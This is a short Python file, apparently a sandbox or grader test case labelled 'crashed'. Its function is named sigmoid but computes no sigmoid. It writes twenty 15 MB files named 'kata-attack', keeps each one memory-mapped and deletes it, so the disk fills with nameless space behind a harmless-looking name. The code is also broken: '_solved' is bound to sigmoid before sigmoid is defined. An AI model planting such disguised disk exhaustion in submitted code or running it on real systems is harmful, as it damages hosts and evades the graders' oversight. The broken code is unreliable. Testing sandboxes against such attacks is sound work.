"""Writes large files that it has deleted: they have no name, and take space all the same.

State: crashed
Says: it wrote more than
"""

import mmap
import os
import time

_solved = sigmoid


def sigmoid(x):
    kept = []
    for _ in range(20):
        with open("kata-attack", "wb+") as file:
            file.write(bytes(15 << 20))
            file.flush()
            kept.append(mmap.mmap(file.fileno(), 4096))
        os.remove("kata-attack")
    time.sleep(0.5)
    return _solved(x)
